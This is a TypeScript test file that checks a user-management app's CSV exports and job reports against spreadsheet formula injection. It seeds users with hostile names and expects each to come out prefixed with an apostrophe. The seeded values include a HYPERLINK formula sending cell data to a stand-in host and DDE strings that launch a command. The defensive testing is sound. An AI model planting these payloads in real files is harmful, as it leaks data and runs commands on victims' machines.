/**
 * A spreadsheet runs a cell that starts with = + - @ (and, in some, a tab or carriage return) as a
 * formula. Names and labels come from whoever signed up, so every CSV Userdeck writes (user exports
 * and job reports) must hand such a value over as text, by the same rule.
 */
import { readFileSync } from 'node:fs'
import { parse } from 'csv-parse/sync'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { JobView } from '@shared/models/jobs'
import type { UserExportDone } from '@shared/models/users'
import type { HostInternals } from '../../../src/host/host'
import { saveReport } from '../../../src/host/jobs/report'
import { tempDir } from '../helpers/temp-dir'
import { testHost } from '../helpers/test-host'

const hostile = [
  '=HYPERLINK("http://evil.example/?"&A2,"Click")',
  '+1+cmd|" /C calc"!A0',
  '-2+3',
  '@SUM(1+1)*cmd|" /C calc"!A0',
  '\t=1+1',
  '\r=1+1',
]

/** What a spreadsheet would take as a formula (or, leading tab or CR, may strip and then run). */
const runsAsFormula = (cell: string) => /^[=+\-@\t\r]/.test(cell)

describe('CSV formula injection', () => {
  let host: HostInternals
  beforeAll(async () => {
    host = await testHost({ seed: 3 })
    const { clients } = await host.core.projects.resolve('demo')
    for (const [i, name] of hostile.entries()) await clients.users.create({ userId: `formula${i}`, name })
  })
  afterAll(async () => {
    await host.close()
  })

  it('a user export hands every formula-looking name over as text', async () => {
    const r = await host.dispatch('users.export', {
      exportId: 'f1',
      project: 'demo',
      format: 'csv',
      columns: ['id', 'name'],
      search: 'formula',
    })
    if (!r.ok) throw new Error(r.error.message)
    const rows = parse(readFileSync((r.value as UserExportDone).path, 'utf8'), {
      columns: true,
    }) as Record<string, string>[]
    const names = new Map(rows.map((row) => [row['id'], row['name']!]))
    expect(names.size).toBe(hostile.length)
    for (const [i, name] of hostile.entries()) {
      const cell = names.get(`formula${i}`)!
      expect(runsAsFormula(cell), JSON.stringify(cell)).toBe(false)
      // The value itself is all there, behind the apostrophe a spreadsheet hides.
      expect(cell).toBe(`'${name}`)
    }
  })

  it('a job report follows the same rule, tab and carriage return included', async () => {
    const dir = tempDir()
    async function* rows() {
      for (const [i, label] of hostile.entries())
        yield { key: `formula${i}`, label, outcome: 'done' as const, reason: label }
    }
    const report = await saveReport({ id: 'j1', kind: 'labels' } as JobView, rows(), 'csv', dir)
    const parsed = parse(readFileSync(report.path, 'utf8'), { columns: true }) as Record<string, string>[]
    expect(parsed).toHaveLength(hostile.length)
    for (const [i, row] of parsed.entries()) {
      expect(row['label']).toBe(`'${hostile[i]}`)
      expect(row['reason']).toBe(`'${hostile[i]}`)
    }
  })
})
